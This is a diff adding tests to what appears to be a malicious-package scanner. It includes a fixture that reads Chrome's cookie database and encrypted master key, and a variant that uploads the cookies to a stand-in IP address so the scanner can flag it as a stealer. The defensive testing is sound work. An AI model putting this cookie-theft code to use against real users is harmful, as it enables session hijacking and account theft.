@@ -509,6 +509,56 @@ def test_stealer_benign_without_sink(tmp_path: Path, scanner: Scanner) -> None:
     assert_quiet(result, "stealer")
 
 
+COOKIE_JAR_MODULE = r"""import json
+import os
+import sqlite3
+import urllib.request
+
+PROFILE = os.path.join(os.path.expanduser("~"), ".config", "google-chrome", "Default")
+
+
+def master_key():
+    with open(os.path.join(PROFILE, "..", "Local State"), "rb") as handle:
+        return json.load(handle)["os_crypt"]["encrypted_key"]
+
+
+def load_cookies(jar):
+    with sqlite3.connect(os.path.join(PROFILE, "Cookies")) as db:
+        for row in db.execute("SELECT host_key, name, value FROM cookies"):
+            jar.add(row)
+    return jar
+
+
+def cookie_header(jar, url):
+    request = urllib.request.Request(url)
+    jar.add_cookie_header(request)
+    return request.get_header("Cookie")
+"""
+COOKIE_UPLOADER = (
+    COOKIE_JAR_MODULE
+    + r"""
+
+def upload(jar):
+    body = "\n".join(str(c) for c in load_cookies(jar)).encode()
+    urllib.request.urlopen(urllib.request.Request("http://192.0.2.8/c", data=body))
+"""
+)
+
+
+def test_stealer_benign_cookie_jar_that_builds_a_request_it_never_sends(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    # a downloader reading the user's browser cookies to fetch what the user asked for: building a
+    # Request object for its Cookie header sends nothing
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cookies.py": COOKIE_JAR_MODULE}), scanner)
+    assert_quiet(result, "stealer", not_verdict=Verdict.MALICIOUS)
+
+
+def test_stealer_fires_when_the_cookie_module_also_sends(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cookies.py": COOKIE_UPLOADER}), scanner)
+    assert_fires(result, "stealer", Verdict.MALICIOUS)
+
+
 SSH_PROBE_SETUP = setup_py(
     'HAS_KEY = os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))\n', imports="import os\n"
 )
